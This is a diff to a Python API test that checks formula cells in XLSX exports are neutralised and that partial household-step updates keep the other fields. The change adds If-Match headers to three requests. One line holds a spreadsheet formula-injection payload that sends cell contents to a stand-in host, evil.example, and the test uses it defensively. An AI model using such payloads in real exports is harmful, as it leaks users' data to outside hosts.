@@ -234,10 +234,10 @@ def test_formula_cells_are_neutralised_and_partial_steps_keep_fields():
     hid = next(e["household_id"] for e in get("/api/v1/worklists/archive_incomplete?limit=5").json["items"])
     full = {"responsible_person": "龙主任", "responsible_phone": "13800001111",
             "village_command": "村指挥部", "town_command": "镇指挥部"}
-    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, full, token=ADMIN)
+    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, full, token=ADMIN, headers={"If-Match": "*"})
     expect(r.status == 200, "steps %r" % r)
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": evil}, token=ADMIN)
+    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": evil}, token=ADMIN, headers={"If-Match": "*"})
     expect(r.status == 200, "partial steps %r" % r)
     now = get("/api/v1/households/%d/steps" % hid).json
     for k in ("responsible_phone", "village_command", "town_command"):
@@ -255,7 +255,7 @@ def test_formula_cells_are_neutralised_and_partial_steps_keep_fields():
     book = read_xlsx(get("/api/v1/reports/employment?format=xlsx").body)
     figures = [v for r in book["sheets"][0][1][2:] for v in r if isinstance(v, (int, float))]
     expect(figures, "figures are written as numbers")
-    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": None}, token=ADMIN)
+    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": None}, token=ADMIN, headers={"If-Match": "*"})
     expect(get("/api/v1/households/%d/steps" % hid).json["responsible_person"] is None
            and get("/api/v1/households/%d/steps" % hid).json["town_command"] == "镇指挥部",
            "null clears only what it names")
